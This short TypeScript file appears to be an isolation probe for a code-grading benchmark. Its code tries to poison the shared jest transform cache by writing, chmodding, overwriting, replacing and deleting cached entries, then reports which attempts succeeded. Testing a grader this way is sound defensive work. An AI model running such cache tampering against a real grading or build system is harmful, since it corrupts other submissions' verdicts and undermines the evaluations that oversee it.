// @ts-nocheck
// Tries to change the lockfile's jest transform store, which every later grade with the same
// lockfile reads: a poisoned transform of a dependency (or of a hidden test file, whose key
// the attacker can compute) would change other submissions' verdicts.
import { attempt, nodeRequire, realProcess, tell } from './lib';

const fs = nodeRequire('fs');
const path = nodeRequire('path');
const seen = {};
const stores = new Set(['/tmp/revylbench/jest-store']);
for (const arg of realProcess.argv) {
  const m = /"store":"([^"]+)"/.exec(arg);
  if (m) stores.add(m[1]);
}
let n = 0;
for (const store of stores) {
  seen[`list ${store}`] = attempt(() => fs.readdirSync(store).length);
  seen[`new file in ${store}`] = attempt(() => fs.writeFileSync(path.join(store, 'poison.json'), '{}'));
  seen[`new folder in ${store}`] = attempt(() => fs.mkdirSync(path.join(store, 'zz')));
  seen[`chmod ${store}`] = attempt(() => fs.chmodSync(store, 0o777));
  let folders = [];
  try {
    folders = fs.readdirSync(store).map((f) => path.join(store, f));
  } catch (e) {
    continue;
  }
  for (const folder of folders.slice(0, 8)) {
    for (const name of attempt(() => fs.readdirSync(folder).join(',')).slice(3).split(',').filter(Boolean).slice(0, 4)) {
      const entry = path.join(folder, name);
      const poisoned = JSON.stringify({ code: 'module.exports = {};', map: null });
      seen[`overwrite ${n}`] = attempt(() => fs.writeFileSync(entry, poisoned));
      seen[`replace ${n}`] = attempt(() => {
        fs.writeFileSync(`${entry}.tmp`, poisoned);
        fs.renameSync(`${entry}.tmp`, entry);
      });
      seen[`unlink ${n}`] = attempt(() => fs.unlinkSync(entry));
      n += 1;
    }
  }
}
seen.entries_tried = n;
tell('poison-store', seen);
